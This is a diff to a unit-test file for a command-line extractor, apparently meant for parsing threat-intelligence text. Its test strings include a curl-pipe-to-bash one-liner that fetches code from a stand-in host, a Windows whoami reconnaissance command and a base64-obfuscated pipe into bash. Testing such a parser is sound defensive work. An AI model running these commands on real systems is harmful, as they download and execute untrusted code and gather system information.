@@ -485,4 +485,8 @@ describe('extractCmdlines', () => {
     expect(values('The one-liner (curl -s http://x.test/a | bash) downloads the next stage.')).toEqual(['curl -s http://x.test/a | bash']);
     expect(values('It ran (cmd.exe /c whoami /all), then exited.')).toEqual(['cmd.exe /c whoami /all']);
   });
+
+  it('reads a one-liner in typographic single quotes that quotes within itself, without the closing mark', () => {
+    expect(values('Victims paste ‘echo "Y3VybA==" | base64 -d | bash’ into Terminal.')).toEqual(['echo "Y3VybA==" | base64 -d | bash']);
+  });
 });
